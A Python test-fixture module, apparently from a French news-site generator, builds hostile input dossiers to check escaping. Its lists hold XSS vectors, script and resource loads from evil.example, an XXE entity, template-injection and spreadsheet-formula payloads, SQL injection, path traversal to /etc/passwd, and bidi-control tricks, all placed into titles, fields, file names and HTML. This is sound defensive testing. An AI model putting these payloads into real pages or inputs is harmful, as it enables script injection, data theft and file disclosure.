"""Texts made to break out of where they stand, and a dossier that holds each as text, as a field, and as a file name."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

# What a page would do if one of these got through: set this name on `window`, or ask this host for something.
MARK = "broken_in"
HOST = "evil.example"
_RUN = f"window.{MARK}=1"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src=//{HOST}/x.js></sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus tabindex=1 '",
    f"` onfocus={_RUN} autofocus `",
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"<iframe src=javascript:parent.{MARK}=1>",
    f"<object data=javascript:{_RUN}><embed src=//{HOST}/x.swf>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video><audio src=//{HOST}/a.mp3 autoplay>",
    f"<body onload={_RUN}><input autofocus onfocus={_RUN}>",
    f"<form action=//{HOST}><button formaction=javascript:{_RUN}>ok",
    f"<base href=//{HOST}/><meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<link rel=stylesheet href=//{HOST}/x.css><style>@import '//{HOST}/y.css'</style>",
    f"<style>body{{background:url(//{HOST}/z.png)}}</style>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></style></noscript></template><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"--><script>{_RUN}</script><!--",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"]]><script>{_RUN}</script>",
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://{HOST}/">]><x>&e;</x>',
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62; &#x6A;avascript:{_RUN}",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<a href=javascript:{_RUN}>lien</a>",
]
LINKS = [
    f"[lien](javascript:{_RUN})",
    f"[lien](JaVaScRiPt&colon;{_RUN})",
    f"[lien](&#106;avascript:{_RUN})",
    f"[lien](<java\tscript:{_RUN}>)",
    f"[lien](data:text/html,<script>{_RUN}</script>)",
    f"[lien](vbscript:{_RUN})",
    f"[lien](//{HOST}/x)",
    f"![image](https://{HOST}/pixel.png)",
    f'![image](x "onerror={_RUN}")',
    f"<javascript:{_RUN}>",
    f"[lien][x]\n\n[x]: javascript:{_RUN}",
    f'[lien](https://{HOST}/" onclick="{_RUN})',
    "[lien](file:///etc/passwd)",
]
TEMPLATES = [
    "{{ 7 * 191 }} {% raw %} {# un mot #}",
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{% include 'base.html' %}{% extends 'x' %}",
    "${7*191} #{7*191} <%= 7*191 %> %(name)s {0.__class__} %s%n%x $(true) `true`",
]
FORMATS = [
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1-cmd|'/C calc'!A0",
    '-2+3+cmd|"/C calc"!A0',
    '=HYPERLINK("http://evil.example","clic")',
    "\uff1d1+1",
    'a","=1+1","b',
    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x",
    "a\\nATTACH:http://evil.example/x;b,c:d",
    "}, url = {http://evil.example}, x = {",
    "\\input{/etc/passwd} $\\write18{true}$ % # & _ ^ ~",
    "ER  - \r\nTY  - BOOK",
    "'; DROP TABLE entry; --",
    '{"@type":"Person"}</script>',
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\CON",
]
CHARACTERS = [
    "avant \u202egnp.exe\u202c apr\u00e8s",
    "\u2066\u2067\u2068isol\u00e9s\u202a\u202b\u202d jamais ferm\u00e9s",
    "z\u200be\u200cr\u200do\ufeff largeur\u2060 nulle\u00ad",
    "commandes \x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x7f fin",
    "commandes \x80\x85\x9b31m fin",
    "\ufffe\uffff\U0001fffe non-caract\u00e8res \ufdd0",
    "Z\u0351\u036b\u0343\u036a\u0342A\u0334\u0335L\u0336GO\u0337" + "\u0301" * 80,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1f7 \U000e0001\U000e0041",
    "lignes\u2028et\u2029paragraphes",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea mixed",
    "mot" * 400,
]
PAYLOADS = [*MARKUP, *LINKS, *TEMPLATES, *FORMATS, *CHARACTERS]
"""Each is one article's title, text, fields and name."""

PLAIN = ["Un mot ordinaire & un autre", "[An English word](https://example.org/) that **the** reader `knows` from the news"]
"""What stands in their place in a dossier that means no harm: they say which elements a page may have."""


def make(folder: Path, payloads: list[str]) -> None:
    """A dossier in `folder` with every payload in every place that an input can fill."""
    seeds = folder / "seeds"
    seeds.mkdir(parents=True)
    config = 'title = "Dossier hostile"\nbase_url = "https://dossier.example/d/"\n'
    (folder / "dossier.toml").write_text(config + _parties(payloads), "utf-8")
    for number, payload in enumerate(payloads):
        day = f"2020-{number // 28 % 12 + 1:02}-{number % 28 + 1:02}"
        _text(seeds, number, payload, day)
        _markdown(seeds, number, payload, day)
        _page(seeds, number, payload, day)


_NOT_YAML = re.compile("[\x7f-\x9f\u2028\u2029\ufffe\uffff]")


def _parties(payloads: list[str]) -> str:
    """Some of them as names that the author declared: what an author copies from a page need not be harmless."""
    named = {
        json.dumps(payload, ensure_ascii=False) for payload in payloads[::20] if payload.isprintable() and payload.strip()
    }
    return "".join(f"[[parties]]\nname = {name}\ndescription = {name}\n" for name in sorted(named))


def _told(payload: str) -> str:
    """A quote, a speaker, a deadline, a name and a figure around the payload, so that it goes to every page there is."""
    return (
        f"« {payload} », a déclaré Anna Durand, directrice d'Alvea {payload}. "
        f"Alvea {payload} paiera 12 milliards d'euros au plus tard le 15 septembre 2021 {payload}."
    )


def _text(seeds: Path, number: int, payload: str, day: str) -> None:
    name = "".join(c for c in payload if c not in "/\0").strip(". ").encode("utf-8")[:180].decode("utf-8", "ignore")
    (seeds / f"{number:03} {name}.txt").write_bytes(f" date {day}\n{payload}\n\n{_told(payload)}\n".encode())


def _markdown(seeds: Path, number: int, payload: str, day: str) -> None:
    # A JSON text is a YAML text, but for what YAML does not hold as it is.
    said = _NOT_YAML.sub(lambda found: f"\\u{ord(found[0]):04x}", json.dumps(payload, ensure_ascii=False))
    address = "".join(c for c in payload if c.isprintable() and not c.isspace())[:400]
    said_url = json.dumps(f"https://{HOST}/{address}", ensure_ascii=False)
    fields = {"title": said, "date": day, "url": said_url}
    fields |= {"publisher": said, "author": said, "rights": said, "tags": f"[{said}]"}
    matter = "".join(f"{key}: {value}\n" for key, value in fields.items())
    body = f"{_told(payload)}\n\n# {payload}\n\n> {payload}\n\n- {payload}\n\n    {payload}\n"
    (seeds / f"m{number:03}.md").write_bytes(f"---\n{matter}---\n\n{body}".encode())


def _page(seeds: Path, number: int, payload: str, day: str) -> None:
    said = html.escape(payload)
    data = json.dumps({"@type": "NewsArticle", "headline": payload, "author": {"name": payload}, "url": payload})
    head = (
        f'<title>{said}</title><meta property="og:title" content="{said}"><meta name="author" content="{said}">'
        f'<link rel="canonical" href="{said}"><meta property="article:published_time" content="{day}">'
        f'<script type="application/ld+json">{data}</script>'
    )
    body = f"<h1>{said}</h1><p>{html.escape(_told(payload))}</p><p>{payload}</p>"
    whole = f"<!doctype html><html lang=fr><meta charset=utf-8>{head}<body><article>{body}</article></body></html>"
    (seeds / f"p{number:03}.html").write_bytes(whole.encode())
